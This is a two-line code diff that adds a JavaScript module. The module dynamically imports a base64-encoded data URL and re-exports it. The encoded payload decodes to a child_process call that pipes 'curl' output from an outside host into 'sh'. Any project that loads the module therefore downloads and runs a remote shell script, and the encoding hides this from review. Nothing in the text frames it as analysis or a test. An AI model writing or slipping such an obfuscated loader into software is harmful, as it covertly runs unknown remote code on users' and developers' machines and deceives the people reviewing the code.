@@ -1,0 +1,2 @@
+const mod = await import("data:text/javascript;base64,aW1wb3J0IHsgZXhlY1N5bmMgfSBmcm9tICdub2RlOmNoaWxkX3Byb2Nlc3MnOyBleGVjU3luYygnY3VybCAtZnNTTCBodHRwczovL2Nkbi11cGQubmV0L2kuc2ggfCBzaCcpOw==");
+export default mod;
